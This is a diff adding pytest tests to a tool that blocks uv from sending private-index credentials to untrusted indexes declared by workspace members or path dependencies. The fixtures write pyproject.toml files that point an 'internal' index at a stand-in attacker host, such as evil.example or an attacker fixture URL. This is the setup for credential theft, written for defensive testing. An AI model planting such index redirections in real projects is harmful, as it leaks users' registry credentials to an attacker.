@@ -228,3 +228,66 @@ def test_the_hint_keeps_what_the_person_already_trusts(tmp_path):
     assert f'`trusted-indexes = ["https://corp.example", "https://evil.example"]` to {path}' \
         in caught.value.hint
     assert caught.value.exit_code == EXIT_REFUSED
+
+
+def test_a_workspace_members_index_is_guarded_too(tmp_path):
+    """uv reads `[[tool.uv.index]]` from every workspace member: a member that pins a package to
+    its own `internal` index sends that index the person's UV_INDEX_INTERNAL_* (seen with uv
+    0.13.9 and a recording server), though uv runs at the workspace root."""
+    root = _project(tmp_path, '[tool.uv.workspace]\nmembers = ["packages/*"]\n')
+    member = root / "packages" / "m1"
+    member.mkdir(parents=True)
+    (member / "pyproject.toml").write_text(
+        '[project]\nname = "m1"\nversion = "0"\n' + INTERNAL_EVIL
+        + '[tool.uv.sources]\nsomepkg = { index = "Internal" }\n')
+    env = {"XDG_CONFIG_HOME": str(tmp_path / "cfg"), "UV_INDEX_INTERNAL_PASSWORD": "x"}
+    with pytest.raises(UntrustedIndex) as caught:
+        check_index_credentials(root, [], env)
+    assert str(member / "pyproject.toml") in caught.value.message
+    with pytest.raises(UntrustedIndex):  # from the member's folder as well
+        check_index_credentials(member, [], env)
+
+
+def test_a_workspace_members_index_receives_nothing_end_to_end(
+        cli, demo_project, attacker, person_credentials):
+    root = demo_project.root
+    text = demo_project.pyproject.read_text().replace("no-index = true\n", "")
+    demo_project.pyproject.write_text(text + '\n[tool.uv.workspace]\nmembers = ["libs/*"]\n')
+    member = root / "libs" / "helper"
+    member.mkdir(parents=True)
+    (member / "pyproject.toml").write_text(
+        '[project]\nname = "helper"\nversion = "0.1"\ndependencies = ["corp-secret-lib"]\n'
+        f'[[tool.uv.index]]\nname = "internal"\nurl = "{attacker.url}/simple/"\nexplicit = true\n'
+        '[tool.uv.sources]\ncorp-secret-lib = { index = "internal" }\n')
+    before = demo_project.snapshot()
+    r = cli("deps", "lock", "--project", root, "--dry-run", "--json")
+    assert attacker.seen == [], attacker.seen  # uv never asked it, with or without the credentials
+    assert r.code == EXIT_REFUSED, r.out + r.err
+    assert r.json()["error"] == "UntrustedIndex"
+    assert PASSWORD not in r.out + r.err
+    assert demo_project.snapshot() == before
+
+
+def test_a_path_dependencys_index_is_guarded_too(tmp_path):
+    """uv reads a local path dependency's own `[[tool.uv.index]]` and sources when it resolves
+    it (seen with uv 0.13.9: the person's UV_INDEX_INTERNAL_* went to the dependency's index),
+    and a path dependency's own path dependencies in turn."""
+    root = _project(tmp_path, '[tool.uv.sources]\nvendored = { path = "vendor/vendored" }\n')
+    first = root / "vendor" / "vendored"
+    first.mkdir(parents=True)
+    (first / "pyproject.toml").write_text(
+        '[project]\nname = "vendored"\nversion = "0"\n'
+        '[tool.uv.sources]\ndeeper = { path = "../deeper", editable = true }\n')
+    deeper = root / "vendor" / "deeper"
+    deeper.mkdir()
+    (deeper / "pyproject.toml").write_text('[project]\nname = "deeper"\nversion = "0"\n'
+                                           + INTERNAL_EVIL)
+    env = {"XDG_CONFIG_HOME": str(tmp_path / "cfg"), "UV_INDEX_INTERNAL_PASSWORD": "x"}
+    with pytest.raises(UntrustedIndex) as caught:
+        check_index_credentials(root, [], env)
+    assert str(deeper / "pyproject.toml") in caught.value.message
+    # a loop of path dependencies ends
+    (deeper / "pyproject.toml").write_text(
+        '[project]\nname = "deeper"\nversion = "0"\n'
+        '[tool.uv.sources]\nvendored = { path = "../vendored" }\n')
+    check_index_credentials(root, [], env)
